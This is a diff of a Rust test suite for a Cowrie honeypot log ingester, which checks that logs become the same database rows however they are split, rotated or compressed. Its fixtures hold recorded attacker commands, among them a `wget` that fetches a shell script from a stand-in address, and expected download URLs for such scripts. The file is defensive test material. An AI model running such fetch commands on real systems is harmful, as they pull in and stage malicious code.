@@ -1,260 +1,422 @@
-//! Reading logs is harmless: in whatever pieces, order and number they come, the database is the same.
-//! What cannot be read is named and counted, and nothing else suffers.
+//! Logs into rows: what a Cowrie log says is what the database says, once, however the log came.
 
+use std::fs;
 use std::io::Write;
-use std::process::Stdio;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::Arc;
+use std::time::Duration;
 
+use corral::clock::{StoppedClock, Timestamp};
+use corral::config::IngestConfig;
+use corral::ingest::{self, Settings, Silent, Summary};
+use corral::store::Store;
 use flate2::Compression;
 use flate2::write::GzEncoder;
-use sqlx::{Connection, SqliteConnection};
+use sqlx::{Connection, Row, SqliteConnection};
+use tempfile::TempDir;
 
-use crate::desk::{Desk, text};
+mod odd;
+mod pieces;
 
-/// Every row of these columns of every table that ingest writes; `own` adds ids and the times of writing.
-async fn dump(desk: &Desk, own: bool) -> String {
-    let url = format!("sqlite://{}", desk.path("corral.db").display());
-    let mut database = SqliteConnection::connect(&url).await.unwrap();
-    let mut dump = String::new();
-    for table in TABLES {
-        let sql = format!("SELECT name FROM pragma_table_info('{table}')");
-        let columns: Vec<(String,)> = query(&mut database, sql).await;
-        let kept =
-            columns.iter().map(|(name,)| name.as_str()).filter(|name| own || !OWN.contains(name));
-        let row = kept.map(|name| format!("quote({name})")).collect::<Vec<_>>().join(" || '|' || ");
-        let from = match *table {
-            "corral_command" if !own => {
-                "(SELECT s.source, s.session, c.at, c.hash, c.input
-                 FROM corral_command c JOIN corral_session s ON s.id = c.session_id)"
-            }
-            table => table,
-        };
-        let row = if from == *table {
-            row
-        } else {
-            "source || session || at || hash || input".to_owned()
-        };
-        if *table == "corral_source" && !own {
-            continue;
-        }
-        let rows: Vec<(String,)> =
-            query(&mut database, format!("SELECT {row} FROM {from} ORDER BY 1")).await;
-        let rows: Vec<String> = rows.into_iter().map(|(row,)| row).collect();
-        dump.push_str(&format!("{table}\n{}\n", rows.join("\n")));
+/// A throw-away database.
+struct Place {
+    folder: TempDir,
+    runtime: tokio::runtime::Runtime,
+}
+
+impl Place {
+    fn new() -> Self {
+        let runtime = tokio::runtime::Builder::new_multi_thread()
+            .worker_threads(1)
+            .enable_all()
+            .build()
+            .unwrap();
+        Self { folder: tempfile::tempdir().unwrap(), runtime }
     }
-    dump
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.folder.path().join(name)
+    }
+
+    fn url(&self) -> String {
+        format!("sqlite://{}", self.path("corral.db").display())
+    }
+
+    /// Puts a file beside the database.
+    fn put(&self, name: &str, content: impl AsRef<[u8]>) -> PathBuf {
+        let path = self.path(name);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, content).unwrap();
+        path
+    }
+
+    /// Ingests with these settings, at a time that stands still.
+    fn ingest_with(&self, config: &IngestConfig, paths: &[PathBuf]) -> Summary {
+        let settings = Settings::new(config, None).unwrap();
+        self.runtime.block_on(async {
+            let store = Store::open(&self.url(), Duration::from_secs(30)).await.unwrap();
+            let clock = StoppedClock(Timestamp(1_800_000_000_000_000));
+            let summary =
+                ingest::ingest(&store, &clock, settings, paths.to_vec(), Arc::new(Silent)).await;
+            store.close().await;
+            summary.unwrap()
+        })
+    }
+
+    fn ingest(&self, paths: &[PathBuf]) -> Summary {
+        self.ingest_with(&IngestConfig::default(), paths)
+    }
+
+    /// The rows that a query gives, each as its values with `|` between.
+    fn rows(&self, sql: &str) -> Vec<String> {
+        self.runtime.block_on(async {
+            let mut connection = SqliteConnection::connect(&self.url()).await.unwrap();
+            let sql = sqlx::AssertSqlSafe(sql.to_owned());
+            let rows = sqlx::query(sql).fetch_all(&mut connection).await.unwrap();
+            connection.close().await.unwrap();
+            let text = |row: &sqlx::sqlite::SqliteRow| {
+                let cells = (0..row.len()).map(|at| {
+                    let text = row.try_get_unchecked::<Option<String>, _>(at);
+                    text.unwrap().unwrap_or_else(|| "NULL".to_owned())
+                });
+                cells.collect::<Vec<_>>().join("|")
+            };
+            rows.iter().map(text).collect()
+        })
+    }
+
+    fn one(&self, sql: &str) -> String {
+        let rows = self.rows(sql);
+        assert_eq!(rows.len(), 1, "{sql}: {rows:?}");
+        rows[0].clone()
+    }
+
+    /// All values of a kind of feature, sorted.
+    fn features(&self, kind: &str) -> Vec<String> {
+        self.rows(&format!(
+            "SELECT DISTINCT value FROM corral_feature WHERE kind = '{kind}' ORDER BY value"
+        ))
+    }
+
+    /// Everything in the database, without the ids of rows, which tell the order of their coming.
+    fn dump(&self) -> Vec<String> {
+        let mut dump = Vec::new();
+        for table in self.rows("SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name") {
+            if matches!(table.as_str(), "_sqlx_migrations" | "corral_revision" | "corral_source") {
+                continue;
+            }
+            dump.extend(self.table(&table));
+        }
+        dump
+    }
+
+    fn table(&self, table: &str) -> Vec<String> {
+        let columns = self.rows(&format!("SELECT name FROM pragma_table_info('{table}')"));
+        let cells: Vec<String> = columns
+            .iter()
+            .map(|column| match (table, column.as_str()) {
+                ("corral_session" | "credentials", "id") => "''".to_owned(),
+                ("corral_command", "session_id") => {
+                    "(SELECT session || source || attacker_uuid FROM corral_session s WHERE s.id = session_id)".to_owned()
+                }
+                _ => format!("quote({column})"),
+            })
+            .collect();
+        let sql =
+            format!("SELECT '{table}: ' || {} FROM {table} ORDER BY 1", cells.join(" || '|' || "));
+        self.rows(&sql)
+    }
+
+    /// Everything in the database, to the last row.
+    fn exact_dump(&self) -> Vec<String> {
+        let mut dump = self.dump();
+        dump.extend(self.rows("SELECT id, session FROM corral_session ORDER BY id"));
+        dump.extend(self.rows("SELECT id, secret_sha256 FROM credentials ORDER BY id"));
+        dump.extend(self.table("corral_revision"));
+        dump.extend(self.table("corral_source"));
+        dump
+    }
+
+    /// Runs the executable.
+    fn corral(&self, arguments: &[&str]) -> Output {
+        self.command(arguments).output().unwrap()
+    }
+
+    fn command(&self, arguments: &[&str]) -> Command {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_corral"));
+        command.args(["--db", &self.url()]).args(arguments).env_remove("CORRAL_CONFIG");
+        command
+    }
 }
 
-async fn query(database: &mut SqliteConnection, sql: String) -> Vec<(String,)> {
-    sqlx::query_as(sqlx::AssertSqlSafe(sql)).fetch_all(database).await.unwrap()
+fn data(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/cowrie").join(name)
 }
 
-const TABLES: &[&str] = &[
-    "attackers",
-    "credentials",
-    "ttp_tag",
-    "corral_feature",
-    "corral_contact",
-    "corral_session",
-    "corral_command",
-    "corral_source",
-];
-const OWN: &[&str] = &["id", "updated_at", "session_id"];
-
-fn gzip(bytes: &[u8]) -> Vec<u8> {
+fn gzip(content: &[u8]) -> Vec<u8> {
     let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
-    encoder.write_all(bytes).unwrap();
+    encoder.write_all(content).unwrap();
     encoder.finish().unwrap()
 }
 
-/// One session, its lines in order.
-fn session(id: &str, ip: &str, second: u32) -> Vec<String> {
-    let event = |at: u32, rest: &str| {
-        format!(
-            r#"{{"eventid":"cowrie.{rest},"src_ip":"{ip}","session":"{id}","sensor":"hive","timestamp":"2026-03-22T10:{:02}:{:02}.000000Z"}}"#,
-            (second + at) / 60,
-            (second + at) % 60
-        )
-    };
-    vec![
-        event(0, r#"session.connect","protocol":"ssh","src_port":4711,"dst_port":22"#),
-        event(1, r#"client.version","version":"SSH-2.0-libssh2_1.8.0""#),
-        event(2, r#"client.kex","hassh":"0123456789abcdef0123456789abcdef""#),
-        event(3, r#"login.failed","username":"root","password":"root""#),
-        event(4, r#"login.failed","username":"root","password":"root""#),
-        event(5, r#"login.success","username":"root","password":"123456""#),
-        event(6, r#"command.input","input":"uname -a""#),
-        event(7, r#"command.input","input":"wget http://198.18.0.9/x.sh""#),
-        event(8, r#"session.closed","duration":"8.0""#),
-    ]
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
 }
 
-/// The logs of three sessions, interleaved as they would be.
-fn log() -> Vec<String> {
-    let sessions = [
-        session("aaaaaaaaaaaa", "192.0.2.1", 0),
-        session("bbbbbbbbbbbb", "192.0.2.2", 3),
-        session("cccccccccccc", "192.0.2.1", 30),
-    ];
-    let mut lines: Vec<String> = sessions.concat();
-    lines.sort_by_key(|line| line.split("timestamp").nth(1).unwrap_or_default().to_owned());
-    lines
+#[test]
+fn a_log_becomes_the_rows_that_it_tells_of() {
+    let place = Place::new();
+    let summary = place.ingest(&[data("worm.json")]);
+    assert_eq!((summary.lines, summary.events, summary.events_new), (39, 39, 39));
+    assert_eq!((summary.sessions_new, summary.attackers_new, summary.attackers_updated), (3, 2, 0));
+    assert_eq!(
+        place.one("SELECT ip, first_seen, last_seen, event_count, services, deckies, decky_count, is_traversal, \
+                   traversal_path, asn, identity_id FROM attackers WHERE ip = '203.0.113.9'"),
+        "203.0.113.9|2022-05-29 00:00:01.000001|2022-05-29 01:00:23.000000|25|[\"ssh\"]|[\"cowrie\"]|1|0|NULL|NULL|NULL"
+    );
+    assert_eq!(place.features("hassh"), ["51cba57125523ce4b9db67714a90bf6e"]);
+    assert_eq!(place.features("client-version"), ["SSH-2.0-libssh-0.6.3"]);
+    assert_eq!(place.features("download-url"), ["http://198.51.100.7/bins.sh"]);
+    assert_eq!(place.features("download-host"), ["198.51.100.7", "198.51.100.8"]);
+    assert_eq!(place.features("authorized-key").len(), 1);
+    // One script on two addresses, and a shorter one.
+    assert_eq!(
+        place.rows("SELECT COUNT(*), SUM(sightings) FROM corral_feature WHERE kind = 'command-script' GROUP BY value ORDER BY 1"),
+        ["1|1", "2|2"]
+    );
+    assert_eq!(
+        place.rows("SELECT principal, attempt_count, outcome, secret_printable, secret_b64, service, decky_name, secret_kind \
+                    FROM credentials WHERE attacker_ip = '203.0.113.9' ORDER BY attempt_count, secret_b64"),
+        ["root|2|failure|123456|MTIzNDU2|ssh|cowrie|plaintext", "root|2|success|3245gs5662d34|MzI0NWdzNTY2MmQzNA==|ssh|cowrie|plaintext"]
+    );
+    assert_eq!(
+        place.one("SELECT service, certainty, closed, logins_failed, logins_accepted, commands, length(seen) / 8 \
+                   FROM corral_session WHERE session = '0cdc08392169'"),
+        "ssh|3|1|1|1|4|14"
+    );
+    let tags = place.rows("SELECT DISTINCT tactic || ' ' || technique_id FROM ttp_tag WHERE session_id = '0cdc08392169'");
+    for tag in ["TA0007 T1082", "TA0003 T1098", "TA0011 T1105", "TA0005 T1222"] {
+        assert!(tags.iter().any(|found| found == tag), "{tag} in {tags:?}");
+    }
+    assert_eq!(
+        place.one("SELECT created_at, decky_id, source_kind, attack_release, json_extract(evidence, '$.command') FROM ttp_tag \
+                   WHERE rule_id = 'system-uname' AND session_id = 'abb3971cf61d'"),
+        "2022-05-29 01:00:04.000000|cowrie|command|16.1|uname -a"
+    );
+    let commands: serde_json::Value = serde_json::from_str(
+        &place.one("SELECT commands FROM attackers WHERE ip = '203.0.113.77'"),
+    )
+    .unwrap();
+    assert_eq!(commands[0]["command"], "uname -a");
+    assert_eq!(commands[0]["timestamp"], "2022-05-29T00:05:04.000000+00:00");
 }
 
-fn joined(lines: &[String]) -> String {
-    lines.iter().map(|line| format!("{line}\n")).collect()
+#[test]
+fn the_same_log_again_changes_not_a_single_row() {
+    let place = Place::new();
+    let logs = ["worm.json", "old-2017.json", "new-2026.json", "scanners.json"].map(data);
+    place.ingest(&logs);
+    let before = place.exact_dump();
+    let again = place.ingest(&logs);
+    assert_eq!((again.events_new, again.sessions_new, again.sessions_grown), (0, 0, 0));
+    assert_eq!((again.attackers_new, again.attackers_updated, again.features_new), (0, 0, 0));
+    assert_eq!(place.exact_dump(), before);
 }
 
-async fn whole() -> String {
-    let desk = Desk::new();
-    desk.write("cowrie.json", joined(&log()));
-    desk.succeed(&["ingest", "cowrie", "cowrie.json"]);
-    dump(&desk, false).await
+#[test]
+fn a_grown_file_adds_only_what_grew() {
+    let place = Place::new();
+    let whole = fs::read_to_string(data("worm.json")).unwrap();
+    let lines: Vec<&str> = whole.split_inclusive('\n').collect();
+    // The writer was in the middle of a line.
+    let half = format!("{}{}", lines[..9].concat(), &lines[9][..40]);
+    let path = place.put("cowrie.json", &half);
+    let first = place.ingest(std::slice::from_ref(&path));
+    assert_eq!((first.events_new, first.skipped["incomplete last line"]), (9, 1));
+    assert_eq!(
+        first.problems[0].to_string(),
+        format!("{}:10: incomplete last line (read it again when it is complete)", path.display())
+    );
+    place.put("cowrie.json", &whole);
+    assert_eq!(place.ingest(&[path]).events_new, 30);
+    let at_once = Place::new();
+    at_once.ingest(&[data("worm.json")]);
+    assert_eq!(place.dump(), at_once.dump());
 }
 
-#[tokio::test]
-async fn the_same_files_twice_change_not_a_single_row() {
-    let desk = Desk::with_logs();
-    let before = dump(&desk, true).await;
-    desk.succeed(&["ingest", "cowrie", "logs"]);
-    assert_eq!(before, dump(&desk, true).await);
+#[test]
+fn a_last_line_that_only_lacks_its_line_feed_counts() {
+    let place = Place::new();
+    let whole = fs::read_to_string(data("worm.json")).unwrap();
+    let path = place.put("cowrie.json", whole.trim_end());
+    assert_eq!(place.ingest(&[path]).events_new, 39);
 }
 
-#[tokio::test]
-async fn a_grown_and_a_rotated_copy_count_nothing_twice() {
-    let desk = Desk::new();
-    let lines = log();
-    desk.write("cowrie.json", joined(&lines[..11]));
-    desk.succeed(&["ingest", "cowrie", "cowrie.json"]);
-    desk.write("cowrie.json", joined(&lines));
-    desk.succeed(&["ingest", "cowrie", "cowrie.json"]);
-    desk.write("cowrie.json.1.gz", gzip(joined(&lines).as_bytes()));
-    desk.succeed(&["ingest", "cowrie", "cowrie.json.1.gz"]);
-    assert_eq!(whole().await, dump(&desk, false).await);
+#[test]
+fn every_way_of_packing_and_naming_is_the_same_log() {
+    let expected = Place::new();
+    expected.ingest(&[data("worm.json")]);
+    let place = Place::new();
+    let whole = fs::read_to_string(data("worm.json")).unwrap();
+    let lines: Vec<&str> = whole.split_inclusive('\n').collect();
+    // Rotated twice, packed by member, a copy of a part, and files that are none of ours.
+    place.put(
+        "log/cowrie.json.2.gz",
+        [gzip(lines[..3].concat().as_bytes()), gzip(lines[3..14].concat().as_bytes())].concat(),
+    );
+    place.put("log/cowrie.json.1.gz", gzip(lines[10..20].concat().as_bytes()));
+    place.put("log/cowrie.json", lines[20..].concat());
+    place.put("log/backup/cowrie-2022-05-29.json", lines[5..25].concat());
+    place.put("log/cowrie.log", "2022-05-29 [cowrie.ssh.factory] x\n");
+    place.put("log/adbhoney.json", "{\"eventid\":\"adbhoney.connect\"}\n");
+    let summary = place.ingest(&[place.path("log")]);
+    assert_eq!((summary.files, summary.events_new), (4, 39));
+    assert_eq!(summary.passed_over.count, 2);
+    assert!(summary.passed_over.first.iter().any(|path| path.ends_with("adbhoney.json")));
+    assert_eq!(place.dump(), expected.dump());
 }
 
-#[tokio::test]
-async fn pieces_in_any_order_with_overlap_give_the_same_database() {
-    let lines = log();
-    let expected = whole().await;
-    // Seeded by hand: where to cut, which way round, how much overlap.
-    for (cut, overlap) in [(1, 0), (4, 2), (7, 7), (13, 1), (20, 5), (26, 9)] {
-        let desk = Desk::new();
-        desk.write("late.json", joined(&lines[cut..]));
-        desk.write("early.json", joined(&lines[..(cut + overlap).min(lines.len())]));
-        desk.write("again.json", joined(&lines[cut / 2..cut]));
-        desk.succeed(&["ingest", "cowrie", "late.json"]);
-        desk.succeed(&["ingest", "cowrie", "early.json"]);
-        desk.succeed(&["ingest", "cowrie", "again.json", "late.json"]);
-        assert_eq!(expected, dump(&desk, false).await, "cut at {cut} with an overlap of {overlap}");
+#[test]
+fn arrays_and_exports_are_the_same_log() {
+    let expected = Place::new();
+    expected.ingest(&[data("worm.json")]);
+    let whole = fs::read_to_string(data("worm.json")).unwrap();
+    let lines: Vec<&str> = whole.lines().collect();
+    let wrapped: Vec<String> =
+        lines.iter().map(|line| format!("{{\"_index\":\"x\",\"_source\":{line}}}")).collect();
+    for form in [
+        format!("[{}]", lines.join(",\n")),
+        format!("[\n{}\n]\n", lines.join("\n")),
+        format!("[{}]", lines.join(", ")),
+        format!("{},\n", lines.join(",\n")),
+        lines.concat(),
+        whole.replace('\n', "\r\n"),
+        wrapped.join("\n"),
+    ] {
+        let place = Place::new();
+        let path = place.put("cowrie.json", form);
+        assert_eq!(place.ingest(&[path]).events_new, 39);
+        assert_eq!(place.dump(), expected.dump());
     }
 }
 
-#[tokio::test]
-async fn lines_twice_in_one_file_count_once() {
-    let desk = Desk::new();
-    let lines = log();
-    desk.write("cowrie.json", joined(&[lines.clone(), lines].concat()));
-    desk.succeed(&["ingest", "cowrie", "cowrie.json"]);
-    assert_eq!(whole().await, dump(&desk, false).await);
-}
-
-#[tokio::test]
-async fn standard_input_is_read_like_a_file() {
-    let desk = Desk::new();
-    let mut child = desk.command(&["ingest", "cowrie", "-"]).stdin(Stdio::piped()).spawn().unwrap();
-    child.stdin.take().unwrap().write_all(joined(&log()).as_bytes()).unwrap();
-    assert!(child.wait().unwrap().success());
-    assert_eq!(whole().await, dump(&desk, false).await);
+#[test]
+fn files_are_read_in_the_order_of_their_events() {
+    let place = Place::new();
+    let whole = fs::read_to_string(data("worm.json")).unwrap();
+    let lines: Vec<&str> = whole.split_inclusive('\n').collect();
+    // By name the order would be the other way round; the first has no event that tells.
+    for (name, part) in [
+        ("a.json", &lines[28..]),
+        ("b.json.2022-05-29", &lines[14..28]),
+        ("c.json.gz", &lines[..14]),
+    ] {
+        let content = part.concat();
+        place.put(
+            &format!("log/{name}"),
+            if name.ends_with("gz") { gzip(content.as_bytes()) } else { content.into_bytes() },
+        );
+    }
+    place.ingest(&[place.path("log")]);
+    let order = place.rows("SELECT path FROM corral_source ORDER BY id");
+    let names: Vec<&str> = order.iter().map(|path| path.rsplit('/').next().unwrap()).collect();
+    assert_eq!(names, ["c.json.gz", "b.json.2022-05-29", "a.json"]);
 }
 
 #[test]
-fn the_listed_flaws_are_skipped_and_counted() {
-    let desk = Desk::new();
-    desk.generate(300);
-    let summary = desk.json(&["ingest", "cowrie", "logs"]);
-    let flaws: serde_json::Value =
-        serde_json::from_slice(&std::fs::read(desk.path("logs/flaws.json")).unwrap()).unwrap();
-    let unreadable =
-        flaws.as_array().unwrap().iter().filter(|flaw| flaw["reads"] == "no").count() as u64;
-    let skipped: u64 =
-        summary["skipped"].as_object().unwrap().values().filter_map(|n| n.as_u64()).sum();
-    assert!(unreadable > 0);
-    assert_eq!(skipped, unreadable, "{summary}");
+fn a_source_is_listed_with_what_it_held() {
+    let place = Place::new();
+    let path = place.put(
+        "cowrie.json",
+        fs::read_to_string(data("worm.json")).unwrap() + "{\"eventid\":\"cowrie.log.open\"}\n{}\n",
+    );
+    place.ingest(&[path]);
+    assert_eq!(
+        place.one("SELECT kind, lines, events, skipped, first_event_at, last_event_at, length(sha256) FROM corral_source"),
+        "cowrie|41|39|{\"no session\":1,\"not a Cowrie event\":1}|1653782401000001|1653786023000000|64"
+    );
 }
 
 #[test]
-fn a_broken_line_is_named_with_its_place_and_the_rest_is_read() {
-    let desk = Desk::new();
-    let mut lines = log();
-    lines.insert(3, r#"{"eventid":"cowrie.session.connect","#.to_owned());
-    desk.write("cowrie.json", joined(&lines));
-    let output = desk.run(&["ingest", "cowrie", "cowrie.json"]);
-    assert!(output.status.success());
-    assert!(text(&output.stderr).contains("cowrie.json:4:"), "{}", text(&output.stderr));
-    assert_eq!(desk.json(&["report"])["totals"]["sessions"], 3);
+fn the_command_prints_a_summary_and_its_twin_in_json() {
+    let place = Place::new();
+    let log = data("worm.json").display().to_string();
+    let output = place.corral(&["ingest", "cowrie", &log]);
+    assert!(output.status.success(), "{}", text(&output.stderr));
+    assert_eq!(text(&output.stderr), "", "no progress without a terminal");
+    let stdout = text(&output.stdout);
+    for line in ["events       39", "39 new, 0 known before", "attackers    2"] {
+        assert!(stdout.contains(line), "{stdout}");
+    }
+    let output = place.corral(&["--json", "ingest", "cowrie", &log]);
+    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!((json["events"].as_u64(), json["events_new"].as_u64()), (Some(39), Some(0)));
 }
 
 #[test]
-fn what_a_truncated_gzip_still_holds_is_kept() {
-    let desk = Desk::with_logs();
-    let all = desk.json(&["report"])["totals"]["events"].as_i64().unwrap();
-    let name = "logs/cowrie.json.2026-03-16.gz";
-    let bytes = std::fs::read(desk.path(name)).unwrap();
-    let cut = Desk::new();
-    cut.write("cowrie.json.1.gz", &bytes[..bytes.len() / 2]);
-    let error = cut.fail(3, &["ingest", "cowrie", "cowrie.json.1.gz"]);
-    assert!(error.contains("cowrie.json.1.gz"), "{error}");
-    let kept = cut.json(&["report"])["totals"]["events"].as_i64().unwrap();
-    assert!(kept > 0 && kept < all);
+fn standard_input_is_read_packed_or_not() {
+    let place = Place::new();
+    let mut child = place
+        .command(&["--json", "ingest", "cowrie", "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(&gzip(&fs::read(data("worm.json")).unwrap())).unwrap();
+    let output = child.wait_with_output().unwrap();
+    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(json["events_new"], 39);
 }
 
 #[test]
-fn a_missing_file_is_named_and_the_others_are_read() {
-    let desk = Desk::new();
-    desk.write("cowrie.json", joined(&log()));
-    let error = desk.fail(3, &["ingest", "cowrie", "nowhere.json", "cowrie.json"]);
-    assert!(error.contains("nowhere.json") && error.contains("check the path"), "{error}");
-    assert_eq!(desk.json(&["report"])["totals"]["attackers"], 2);
+fn what_cannot_be_read_is_named_and_the_rest_goes_on() {
+    let place = Place::new();
+    let mut packed = gzip(&fs::read(data("worm.json")).unwrap().repeat(50));
+    packed.truncate(packed.len() - 100);
+    let broken = place.put("broken.json.gz", packed).display().to_string();
+    let missing = place.path("missing.json").display().to_string();
+    let whole = data("worm.json").display().to_string();
+    let output = place.corral(&["ingest", "cowrie", &missing, &broken, &whole]);
+    assert_eq!(output.status.code(), Some(3));
+    let stderr = text(&output.stderr);
+    assert!(
+        stderr.contains(&format!("{missing}: ")) && stderr.contains("check the path"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("broken.json.gz:")
+            && stderr.contains("truncated")
+            && stderr.contains("copy the file again"),
+        "{stderr}"
+    );
+    assert_eq!(place.one("SELECT COUNT(*) FROM attackers"), "2");
 }
 
 #[test]
-fn the_service_is_known_to_the_whole_session_from_its_connect() {
-    let desk = Desk::new();
-    let connect = session("dddddddddddd", "192.0.2.4", 0)[0].replace("ssh", "telnet");
-    let login = session("dddddddddddd", "192.0.2.4", 0)[3].clone();
-    desk.write("one.json", format!("{login}\n"));
-    desk.write("two.json", format!("{connect}\n"));
-    desk.succeed(&["ingest", "cowrie", "one.json"]);
-    desk.succeed(&["ingest", "cowrie", "two.json"]);
-    let rows = query_blocking(&desk, "SELECT DISTINCT service FROM credentials");
-    assert_eq!(rows, ["telnet"]);
+fn a_folder_without_logs_is_an_error_with_a_hint() {
+    let place = Place::new();
+    place.put("log/readme.txt", "nothing");
+    let output = place.corral(&["ingest", "cowrie", &place.path("log").display().to_string()]);
+    assert_eq!(output.status.code(), Some(3));
+    assert!(text(&output.stderr).contains("no Cowrie JSON logs found"));
+    let output = place.corral(&["ingest", "cowrie"]);
+    assert_eq!(output.status.code(), Some(2));
 }
 
 #[test]
-fn container_ids_are_one_sensor_unless_the_config_names_them() {
-    let desk = Desk::new();
-    let day = |id: &str, session_id: &str| {
-        joined(&session(session_id, "192.0.2.5", 0)).replace("hive", id)
-    };
-    desk.write("cowrie.json.1", day("0a1b2c3d4e5f", "111111111111"));
-    desk.write("cowrie.json", day("ffeeddccbbaa", "222222222222"));
-    desk.succeed(&["ingest", "cowrie", "cowrie.json.1", "cowrie.json"]);
-    let sensors = "SELECT DISTINCT decky FROM corral_contact ORDER BY 1";
-    assert_eq!(query_blocking(&desk, sensors), ["cowrie"]);
-
-    let named = Desk::new();
-    named.write("cowrie.json.1", day("0a1b2c3d4e5f", "111111111111"));
-    named.write("corral.toml", "[ingest.sensors]\n\"0a1b2c3d4e5f\" = \"berlin\"\n");
-    named.succeed(&["--config", "corral.toml", "ingest", "cowrie", "cowrie.json.1"]);
-    assert_eq!(query_blocking(&named, sensors), ["berlin"]);
-}
-
-/// One text column, for tests that are not async.
-fn query_blocking(desk: &Desk, sql: &str) -> Vec<String> {
-    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
-    runtime.block_on(async {
-        let url = format!("sqlite://{}", desk.path("corral.db").display());
-        let mut database = SqliteConnection::connect(&url).await.unwrap();
-        query(&mut database, sql.to_owned()).await.into_iter().map(|(text,)| text).collect()
-    })
+fn a_locked_database_is_waited_for_and_then_named() {
+    let place = Place::new();
+    place.ingest(&[]);
+    let config = place.put("corral.toml", "[store]\nbusy-seconds = 1\n").display().to_string();
+    let log = data("worm.json").display().to_string();
+    let mut connection = place.runtime.block_on(SqliteConnection::connect(&place.url())).unwrap();
+    place.runtime.block_on(sqlx::query("BEGIN EXCLUSIVE").execute(&mut connection)).unwrap();
+    let output = place.corral(&["--config", &config, "ingest", "cowrie", &log]);
+    assert_eq!(output.status.code(), Some(4));
+    assert!(text(&output.stderr).contains("locked by another process"), "{}", text(&output.stderr));
+    place.runtime.block_on(sqlx::query("ROLLBACK").execute(&mut connection)).unwrap();
+    place.runtime.block_on(connection.close()).unwrap();
+    assert!(place.corral(&["ingest", "cowrie", &log]).status.success());
+    assert_eq!(place.one("SELECT SUM(event_count) FROM attackers"), "39");
 }
